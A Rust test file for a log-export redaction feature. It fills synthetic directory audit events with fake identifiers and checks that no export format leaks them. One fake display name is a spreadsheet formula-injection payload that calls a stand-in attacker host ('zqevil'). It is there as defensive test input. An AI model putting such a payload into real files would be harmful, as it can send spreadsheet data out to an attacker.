//! Records made to leak, written in every format: none of what identifies may be in any of them.
//! Never looks at how a pseudonym is made.

use serde_json::{Value, json};

use crate::export::tests::store;
use crate::export::{Format, Options, write};
use crate::record::field::FIELDS;
use crate::store::{Mark, Marks, RowId, Store};

/// A display name with whatever can stand in one, for each type of target and for actors.
const NAMES: &[&str] = &[
    "https://domain.zqtenant.example/app of Zqanna",
    "Zqpayroll (https://pay.zqtenant.example)",
    "=HYPERLINK(\"http://zqevil/?\"&A1,\"x\")",
    "Zqanna Zqklar | Zqdesk",
    "Zqanna Zqklar <zqanna@zqtenant.example>",
    "Zqcontoso: Zqanna 10.1.2.3",
    "api://zq-payroll",
    "{\"displayName\":\"Zqanna Zqklar\"}",
    "Microsoft Zqanna",
    "Global Administrator Zqanna",
    "+49 170 9876543",
];

/// What a person or a tool wrote, with what everything in it must not show.
const SAID: &[&str] = &[
    "at zqtenant.onmicrosoft.com, ZQOTHER.mail.onmicrosoft.com, zqthird.sharepoint.com/sites/zqsite",
    "https://zqfourth-my.sharepoint.com/personal/zqpath_zqfifth_onmicrosoft_com",
    "zqbare_name_zqsixth_onmicrosoft_com; server.zqseventh.example; \\\\files.zqtenant.example\\zqper",
    "upn zqper.ek%40zqtenant.example, \\u007aqper.ek\\u0040zqtenant.example, zqper.ek(at)zqtenant",
    "ZQPER EK; zqper  ek; Ek, Zqper; zqanna; ZQKLAR, Zqanna; zzqklar; Zqannas laptop ZQANNA-PC",
    "ZQÜBEL GRÖSSE, Zqu\u{308}bel Gro\u{308}ße, zqübel größe",
    "S-1-5-21-4455667788-222-333-1104 S-1-12-1-1234567890-1234567890-1234567890-1234567890",
    "call +49 170 1234567 or CN=Zqunknown,OU=Zqunit,DC=zqdc; {\"displayName\": \"Zqcut",
    "zqbg1 pw reset; Zqivo made himself owner",
    "10.0.0.5:443 [2001:db8::5]:80 192.0.2.0/24 ::ffff:192.0.2.9",
];

fn target(name: &str, kind: &str, changes: &[(&str, Value)]) -> Value {
    let changes = changes.iter().map(|(name, value)| {
        json!({"displayName": name, "oldValue": json!([value.to_string()]).to_string(),
            "newValue": value.to_string()})
    });
    let changes: Vec<Value> = changes.collect();
    json!({"id": "11111111-2222-4333-8444-555555555555", "displayName": name, "type": kind,
        "userPrincipalName": null, "modifiedProperties": changes})
}

fn event(number: usize, actor: &Value, targets: &[Value], said: &str) -> String {
    json!({"id": format!("e-{number}"), "category": "UserManagement", "result": "success",
        "activityDisplayName": "Update user", "loggedByService": "Core Directory",
        "activityDateTime": format!("2026-11-{:02}T10:00:00Z", 1 + number % 28),
        "resultReason": said, "initiatedBy": {"user": actor}, "targetResources": targets,
        "additionalDetails": [{"key": "Justification", "value": said}]})
    .to_string()
}

fn events() -> Vec<String> {
    let anna = json!({"id": "21111111-2222-4333-8444-555555555555", "displayName": "Zqanna Zqklar",
        "userPrincipalName": "zqanna.zqklar@zqtenant.onmicrosoft.com", "ipAddress": "198.51.100.7"});
    let named = |name: &str| json!({"id": "x", "displayName": name});
    let person = |name: &str, upn: &str| {
        let mut target = target(name, "User", &[]);
        target["userPrincipalName"] = json!(upn);
        target
    };
    let mut events = Vec::new();
    for (at, name) in NAMES.iter().enumerate() {
        let kinds =
            ["User", "Group", "Application", "ServicePrincipal", "Device", "Policy", "Other"];
        let targets: Vec<Value> = kinds.iter().map(|kind| target(name, kind, &[])).collect();
        events.push(event(at, &named(name), &targets, ""));
    }
    let people = [
        person("Zqper Ek", "zqper.ek@zqtenant.example"),
        person("Zqivo Zqpetrov", "zqbg1@zqharbour.example"),
        target("Zqübel Größe", "Group", &[]),
    ];
    events.push(event(20, &anna, &people, ""));
    let inner = json!({"name": "Zqlevel One", "displayName": "Zqlevel Two",
        "deep": json!({"name": "Zqlevel Three",
            "deeper": json!({"name": "Zqlevel Four", "x": json!({"name": "Zqlevel Five"}).to_string()})
                .to_string()}).to_string()});
    let key = "[KeyIdentifier=1,KeyType=Password,KeyUsage=Verify,DisplayName=Zqkeys, Zqname]";
    let values = [
        ("StrongAuthenticationUserDetails", json!([{"AlternativePhoneNumber": "+49 1704445566"}])),
        ("StrongAuthenticationMethod", json!(["+49 170 1234567"])),
        ("StrongAuthenticationPhoneAppDetail", json!([{"DeviceToken": "zqtoken-aabbcc"}])),
        ("PhysicalDeliveryOfficeName", json!(["Zqtown"])),
        ("State", json!(["Zqcounty"])),
        ("KeyDescription", json!([key])),
        ("TenantDisplayName", json!("Zqcorporation")),
        ("OnPremisesSecurityIdentifier", json!(["S-1-5-21-4455667788-222-333-1104"])),
        ("Something", inner),
    ];
    events.push(event(21, &anna, &[target("Zqtarget", "User", &values)], ""));
    for (at, said) in SAID.iter().enumerate() {
        events.push(event(30 + at, &anna, &[target("x", "Group", &[])], said));
    }
    events
}

/// Words that tell who or where it was, small; the ordinary ones beside them may stay.
const TELL: &[&str] = &[
    "zq",
    "größe",
    "grösse",
    "gro\u{308}ße",
    "10.1.2.3",
    "10.0.0.5",
    "198.51.100",
    "192.0.2",
    "2001:db8",
    "9876543",
    "1234567",
    "4445566",
    "4455667788",
    "11111111",
    "per.ek",
    "aabbcc",
    "u007a",
];

#[test]
fn no_format_shows_what_records_were_made_to_leak() {
    let (mut store, _) = store(&events(), u64::MAX);
    let rows: Vec<RowId> = (0..).take(store.len()).collect();
    let mut marks = Marks::default();
    for (row, note) in rows.iter().zip(SAID.iter().cycle()) {
        marks.set(*row, Mark { note: (*note).to_owned(), ..Mark::default() });
    }
    store.set_marks(marks);
    for format in Format::all().filter(|format| *format != Format::RAW) {
        let out = written(&store, &rows, format);
        for word in TELL {
            let at = out.find(word).map(|at| out[..at].chars().rev().take(150).collect::<String>());
            let before: Option<String> = at.map(|back| back.chars().rev().collect());
            assert!(before.is_none(), "{format:?}: {word} after {before:?}");
        }
    }
}

fn written(store: &Store, rows: &[RowId], format: Format) -> String {
    let fields = FIELDS.iter().filter(|field| !matches!(field.name, "raw")).collect();
    let mut options = Options { format, redact: true, fields: Some(fields), ..Options::default() };
    if format == Format::NDJSON {
        options.fields = None;
    }
    options.about.title = SAID.join(" ");
    let mut out = Vec::new();
    write(store, rows, &options, &mut out).expect("it is written");
    String::from_utf8(out).expect("UTF-8").to_lowercase()
}

#[test]
fn words_that_are_nobodys_stay() {
    let events = [event(
        1,
        &json!({"id": "x", "displayName": "Test User", "userPrincipalName": "admin@zqt.example"}),
        &[target("Al", "User", &[("UserType", json!(["Guest"])), ("state", json!("enabled"))])],
        "User was added by an admin of the group; al fresco",
    )];
    let (store, _) = store(&events, u64::MAX);
    let rows: Vec<RowId> = (0..).take(store.len()).collect();
    let out = written(&store, &rows, Format::NDJSON);
    for words in ["user was added by an admin of the group; al fresco", "guest", "enabled"] {
        assert!(out.contains(words), "{words}: {out}");
    }
}
